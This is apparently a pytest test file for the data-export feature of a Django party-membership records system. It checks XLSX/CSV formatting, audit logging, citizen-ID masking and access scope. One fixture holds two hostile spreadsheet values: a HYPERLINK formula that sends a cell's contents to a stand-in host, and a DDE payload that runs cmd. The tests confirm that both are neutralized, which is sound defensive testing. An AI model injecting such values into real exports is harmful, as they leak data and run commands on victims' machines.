from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from dangbo.audit.models import AuditEntry
from dangbo.members.services import ProfileInput, member_admit

pytestmark = [pytest.mark.django_db, pytest.mark.urls("dangbo.exports.tests.urls")]
PURPOSE = "Rà soát hồ sơ đảng viên quý I"


@pytest.fixture
def people(tree, system_user):
    def admit(cell, name, born, cid):
        return member_admit(
            actor=system_user,
            cell=cell,
            decided_on=date(2020, 3, 2),
            ceremony_on=date(2020, 3, 16),
            profile=ProfileInput(full_name=name, birth_date=date(born, 4, 5), birth_year=born, sex="F", citizen_id=cid),
        )

    return [
        admit(tree["cell_a1"], "Lê Thị Hoa", 1988, "001188000111"),
        admit(tree["cell_b1"], "Phạm Thị Lan", 1990, "001190000222"),
    ]


def post(client, url, **data):
    return client.post(url, {"muc_dich": PURPOSE, "dinh_dang": "xlsx", **data})


def sheet_rows(response):
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb.active
    return wb, ws, [[c.value for c in row] for row in ws.iter_rows()]


def test_it_asks_for_a_purpose_and_writes_nothing_without_one(client, people, officer):
    client.force_login(officer)
    assert client.get("/xuat/dang-vien/").status_code == 200
    response = client.post("/xuat/dang-vien/", {"muc_dich": "  ", "dinh_dang": "xlsx"})
    assert response.status_code == 200
    assert "Chưa nhập «Mục đích xuất dữ liệu»." in response.content.decode()
    assert not AuditEntry.objects.filter(action__startswith="export.").exists()


def test_the_xlsx_has_watermark_headers_dates_and_is_logged(client, people, officer):
    client.force_login(officer)
    response = post(client, "/xuat/dang-vien/?ngay=01/06/2024")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb, ws, rows = sheet_rows(response)
    assert "canbo_tinh" in rows[0][0] and PURPOSE in rows[0][0]
    assert PURPOSE in wb.properties.description and wb.properties.creator == "canbo_tinh"
    assert rows[2][:3] == ["STT", "Họ và tên", "Ngày sinh"]
    assert ws.freeze_panes == "A4"
    data = {r[1]: r for r in rows[3:]}
    assert set(data) == {"Lê Thị Hoa", "Phạm Thị Lan"}
    hoa = data["Lê Thị Hoa"]
    assert hoa[2].date() == date(1988, 4, 5)
    assert ws.cell(row=4, column=3).number_format == "dd/mm/yyyy"
    assert hoa[8] == "001188000111"  # the officer may read personal data
    assert hoa[10] == "Chi bộ thôn 1 — Đảng bộ xã An Bình" and hoa[11] == "Đảng viên dự bị"
    entry = AuditEntry.objects.get(action="export.members.list")
    assert entry.after["purpose"] == PURPOSE and entry.after["rows"] == 2


def test_citizen_ids_are_masked_without_view_personal(client, people, leader):
    client.force_login(leader)
    _, _, rows = sheet_rows(post(client, "/xuat/dang-vien/"))
    assert sorted(r[8] for r in rows[3:]) == ["001******111", "001******222"]


def test_the_export_follows_the_scope_and_filters(client, people, commune_officer, tree):
    client.force_login(commune_officer)
    _, _, rows = sheet_rows(post(client, "/xuat/dang-vien/"))
    assert [r[1] for r in rows[3:]] == ["Lê Thị Hoa"]
    _, _, rows = sheet_rows(post(client, f"/xuat/dang-vien/?org={tree['cell_a2'].pk}"))
    assert rows[3:] == []


def test_outsider_gets_404_for_an_organization_outside_the_scope(client, people, outsider, tree):
    client.force_login(outsider)
    assert client.get(f"/xuat/dang-vien/?org={tree['commune_a'].pk}").status_code == 404
    assert post(client, f"/xuat/dang-vien/?org={tree['commune_a'].pk}").status_code == 404
    assert post(client, f"/xuat/chi-so/?org={tree['commune_a'].pk}").status_code == 404
    assert not AuditEntry.objects.filter(action__startswith="export.").exists()


def test_csv_is_utf8_with_bom_semicolons_and_vietnamese_dates(client, people, commune_officer):
    client.force_login(commune_officer)
    response = post(client, "/xuat/dang-vien/", dinh_dang="csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert PURPOSE in lines[0]
    assert lines[1].startswith("STT;Họ và tên;Ngày sinh")
    assert lines[2].startswith("1;Lê Thị Hoa;05/04/1988;1988;Nữ")


def test_the_indicator_overview_exports_numbers(client, people, officer, tree):
    client.force_login(officer)
    response = post(client, f"/xuat/chi-so/?org={tree['province'].pk}&ngay=31/12/2024")
    assert response.status_code == 200
    _, ws, rows = sheet_rows(response)
    assert rows[2] == ["Mã", "Chỉ số", "Loại", "Giá trị", "Đơn vị", "Tỷ lệ / ghi chú"]
    by_code = {r[0]: r for r in rows[3:] if r[0]}
    total = next(r for code, r in by_code.items() if code.startswith("dv_tong") or code == "DV_TONG")
    assert total[3] == 2 and isinstance(total[3], int)
    assert AuditEntry.objects.filter(action="export.reports.indicators").count() == 1


HOSTILE = '=HYPERLINK("http://x.example/?q="&B4,"Bấm vào đây")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(tree, system_user):
    """Members recorded with formula-like texts (through a form or before imports refused them)."""
    return member_admit(
        actor=system_user,
        cell=tree["cell_a1"],
        decided_on=date(2020, 3, 2),
        ceremony_on=date(2020, 3, 16),
        profile=ProfileInput(
            full_name=HOSTILE,
            birth_date=date(1988, 4, 5),
            birth_year=1988,
            sex="F",
            hometown=DDE,
            citizen_id="001188000333",
        ),
    )


def test_formula_injection_neutralized_in_xlsx_export(client, hostile, officer):
    client.force_login(officer)
    wb, ws, rows = sheet_rows(post(client, "/xuat/dang-vien/"))
    row = rows[3]
    assert row[1] == "'" + HOSTILE and row[7] == "'" + DDE
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert row[0] == 1 and ws.cell(row=4, column=1).data_type == "n"  # numbers stay numbers


def test_formula_injection_neutralized_in_csv_export(client, hostile, officer):
    client.force_login(officer)
    response = post(client, "/xuat/dang-vien/", dinh_dang="csv")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert lines[2][1] == "'" + HOSTILE and lines[2][7] == "'" + DDE
    assert lines[2][0] == "1"


# --- rough edges of issue 15 -------------------------------------------------------------------


def test_csv_writes_citizen_ids_as_text_keeping_the_leading_zero(client, people, commune_officer):
    client.force_login(commune_officer)
    response = post(client, "/xuat/dang-vien/", dinh_dang="csv")
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    column = lines[1].index("Số CCCD")
    assert lines[2][column] == '="001188000111"'


def test_file_names_are_vietnamese_without_diacritics(client, people, commune_officer):
    client.force_login(commune_officer)
    response = post(client, "/xuat/dang-vien/", dinh_dang="csv", ngay="30/06/2025")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="danh-sach-dang-vien-den-ngay-')
    assert disposition.isascii() and "members" not in disposition


def test_sheet_names_are_not_cut_mid_word():
    from dangbo.core.sheets import sheet_name

    name = sheet_name("Danh sách đảng viên đến ngày 06/12/2026")
    assert name == "Danh sách đảng viên đến ngày"
    assert len(sheet_name("Chỉ số tổ chức, đảng viên Đảng bộ tỉnh Thử Nghiệm đến ngày 06/12/2026")) <= 31
    title = "Chỉ số tổ chức, đảng viên Đảng bộ tỉnh"
    assert (title + " ").startswith(sheet_name(title) + " ")  # whole words only
    assert sheet_name("Ngắn") == "Ngắn"


def test_lists_and_exports_show_the_parent_beside_a_cell(client, people, officer):
    client.force_login(officer)
    response = post(client, "/xuat/dang-vien/", dinh_dang="csv")
    text = response.content.decode("utf-8-sig")
    assert "Chi bộ thôn 1 — Đảng bộ xã An Bình" in text
    assert "Chi bộ thôn Đông — Đảng bộ xã Bình Minh" in text
    html = client.get("/dang-vien/").content.decode()
    assert "Chi bộ thôn Đông — Đảng bộ xã Bình Minh" in html


def test_the_parent_beside_the_cell_adds_no_query_per_row(client, people, officer, tree, system_user):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(officer)
    client.get("/dang-vien/")  # warm caches (scope, stamps)
    with CaptureQueriesContext(connection) as few:
        assert client.get("/dang-vien/").status_code == 200
    for i, cell in enumerate([tree["cell_a1"], tree["cell_a2"], tree["cell_b1"]] * 2):
        member_admit(
            actor=system_user,
            cell=cell,
            decided_on=date(2020, 3, 2),
            ceremony_on=date(2020, 3, 16),
            profile=ProfileInput(full_name=f"Người Thứ {i}", birth_year=1980 + i, sex="M"),
        )
    client.get("/dang-vien/")
    with CaptureQueriesContext(connection) as many:
        response = client.get("/dang-vien/")
    assert response.status_code == 200
    html = response.content.decode()
    assert html.count("Chi bộ thôn 2 — Đảng bộ xã An Bình") == 2
    assert len(many.captured_queries) == len(few.captured_queries)
